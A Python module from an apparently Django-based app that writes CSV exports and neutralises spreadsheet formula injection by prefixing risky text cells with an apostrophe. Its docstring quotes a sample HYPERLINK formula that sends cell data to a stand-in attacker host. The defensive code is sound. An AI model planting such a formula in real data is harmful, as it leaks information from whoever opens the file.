"""One way to write a CSV file people will open in a spreadsheet: `csv_response` (a download)
or `csv_write` (to any text file).

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets: `=HYPERLINK("http://evil.example/?"&A1,"Click")` typed into a
suggestion or a note would run on a manager's computer when she opens the export. Every text
cell is therefore neutralised (a leading apostrophe, which spreadsheets show as plain text, as
OWASP advises); numbers, dates and booleans are written as they are. Every CSV the app makes goes
through here (`tests/centre/test_csv_export.py` fails on any other use of the csv module), so
no export can forget.
"""

import csv
from collections.abc import Iterable, Sequence
from typing import Any, Protocol

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class Writable(Protocol):
    """A text file, a StringIO or an HttpResponse."""

    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """A cell's value, safe to open in a spreadsheet: text starting like a formula gets a
    leading apostrophe; anything else is returned unchanged (None as an empty cell)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_write(file: Writable, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write the header and rows to `file`, every cell neutralised."""
    writer = csv.writer(file)
    writer.writerow([neutralise(cell) for cell in header])
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])


def csv_response(
    filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV download: UTF-8 with a byte-order mark, so Excel reads names with accents, emoji
    and right-to-left scripts correctly."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    csv_write(response, header, rows)
    return response
